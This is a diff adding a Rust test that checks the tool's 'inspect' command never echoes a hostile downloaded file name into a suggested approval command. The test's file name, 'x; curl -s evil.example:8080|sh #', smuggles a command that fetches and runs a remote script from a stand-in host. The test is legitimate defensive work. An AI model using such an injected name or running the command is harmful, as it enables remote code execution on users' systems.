@@ -240,3 +240,33 @@ fn inspect_says_whose_secret_a_grant_hands_over() {
         "{text}"
     );
 }
+
+/// A downloaded file's name never becomes part of a suggested command.
+#[test]
+fn inspect_suggests_no_command_with_a_hostile_file_name() {
+    let home = TempHome::new();
+    let dir = home.dir.path().join("downloads");
+    std::fs::create_dir_all(&dir).unwrap();
+    let stem = "x; curl -s evil.example:8080|sh #";
+    let wasm = dir.join(format!("{stem}.wasm"));
+    std::fs::copy(fixture_wasm("spin"), &wasm).unwrap();
+    std::fs::write(dir.join(format!("{stem}.toml")), manifest("spin", "")).unwrap();
+    let out = home.airlock(&["inspect", wasm.to_str().unwrap()]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    let approval = text
+        .lines()
+        .find(|l| l.starts_with("approval"))
+        .expect("an approval line");
+    assert!(approval.contains("rename it"), "{text}");
+    assert!(!approval.contains("curl"), "{text}");
+
+    let tidy = dir.join("spin.wasm");
+    std::fs::copy(fixture_wasm("spin"), &tidy).unwrap();
+    std::fs::write(dir.join("spin.toml"), manifest("spin", "")).unwrap();
+    let out = home.airlock(&["inspect", tidy.to_str().unwrap()]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        text.contains("run `airlock adapters approve spin`"),
+        "{text}"
+    );
+}
